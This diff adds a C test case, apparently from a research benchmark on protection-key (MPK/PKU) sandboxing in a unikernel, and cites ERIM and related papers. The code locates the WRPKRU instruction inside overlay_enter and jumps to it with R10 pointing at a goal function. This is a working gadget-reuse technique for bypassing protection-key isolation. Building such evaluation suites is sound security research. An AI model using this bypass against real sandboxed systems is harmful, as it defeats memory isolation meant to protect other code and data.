@@ -1,0 +1,33 @@
+/*
+{
+  "title": "A jump to the first WRPKRU of overlay_enter, which then calls the function in R10",
+  "precondition": "CR4.PKE = 1",
+  "reference": "Vahldiek-Oberwagner et al., ERIM: Secure, Efficient In-process Isolation with Protection Keys (MPK), USENIX Security 2019, section 3.2; Voulimeneas et al., You Shall Not (by)Pass! Practical, Secure, and Fast PKU-based Sandboxing, EuroSys 2022",
+  "symbols": ["overlay_enter"],
+  "cells": {
+    "none": {"outcome": "escaped", "rule": "I2", "event": "guardedAccess"},
+    "uio-mpk": {"outcome": "escaped", "rule": "I1", "event": "pkruWrite"}
+  }
+}
+*/
+#include "attack.h"
+
+// Where an instruction begins in code of the unikernel, which an extension can read: the first place from `start` on.
+static uint64_t find(const void *start, const char *bytes, unsigned length) {
+  for (const volatile uint8_t *at = start;; at++) {
+    unsigned same = 0;
+    while (same < length && at[same] == (uint8_t)bytes[same]) same++;
+    if (same == length) return (uint64_t)at;
+  }
+}
+
+void overlay_enter(void);
+
+static void goal(void) { GOAL_COUNT(); }
+
+int main(void) {
+  BYPASS_OF_KEYS(const uint64_t place = find((const void *)overlay_enter, "\x0f\x01\xef", 3);
+                 __asm__ volatile("movq %4, %%r10\n jmp *%3" : : "a"(0), "c"(0), "d"(0), "r"(place), "r"(goal) : "r10", "memory"));
+  goal();
+  return 0;
+}
